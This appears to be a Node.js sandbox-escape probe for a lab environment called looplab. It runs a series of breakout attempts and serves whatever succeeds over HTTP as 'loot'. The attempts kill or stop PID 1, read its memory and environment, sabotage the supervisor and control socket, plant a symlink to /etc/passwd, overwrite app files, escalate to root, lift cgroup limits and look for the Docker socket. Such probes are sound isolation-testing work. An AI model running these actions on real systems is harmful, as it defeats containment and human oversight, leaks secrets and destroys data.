import fs from 'node:fs';
import http from 'node:http';

// Every line is an attempt; what succeeds is told to whoever asks for /loot.
const loot = [];
const attempt = (name, act) => {
  try {
    const got = act();
    loot.push(`${name}: ${String(got).slice(0, 100)}`);
  } catch {
    /* it was refused */
  }
};
attempt('kill', () => process.kill(1, 'SIGKILL'));
attempt('stop', () => process.kill(1, 'SIGSTOP'));
attempt('memory', () => fs.openSync('/proc/1/mem', 'r+'));
attempt('environment', () => fs.readFileSync('/proc/1/environ', 'utf8'));
attempt('descriptors', () => fs.readdirSync('/proc/1/fd'));
attempt('sockets', () => fs.readdirSync('/run/looplab'));
attempt('control', () => fs.statSync('/run/looplab/control.sock').ino);
attempt('replace', () => fs.renameSync('/run/looplab', '/run/mine'));
attempt('plant', () => fs.symlinkSync('/etc/passwd', '/run/looplab/server.sock'));
attempt('supervisor', () => fs.appendFileSync('/opt/looplab/supervisor.mjs', 'process.exit()'));
attempt('own files', () => fs.writeFileSync('/srv/app/server.mjs', ''));
attempt('packages', () => fs.writeFileSync('/srv/node_modules/x', ''));
attempt('root', () => process.setuid(0));
attempt('priority', () => fs.writeFileSync('/proc/1/oom_score_adj', '1000'));
attempt('devices', () => fs.readdirSync('/dev').filter((name) => /^(sd|vd|nvme|kmsg|mem)/.test(name)).join() || nothing);
attempt('cgroup', () => fs.writeFileSync('/sys/fs/cgroup/memory/memory.limit_in_bytes', '-1'));
attempt('docker', () => fs.statSync('/var/run/docker.sock').ino);

http
  .createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ loot }));
  })
  .listen(process.env.PORT);
console.log(`loot: ${loot.join(' | ') || 'none'}`);
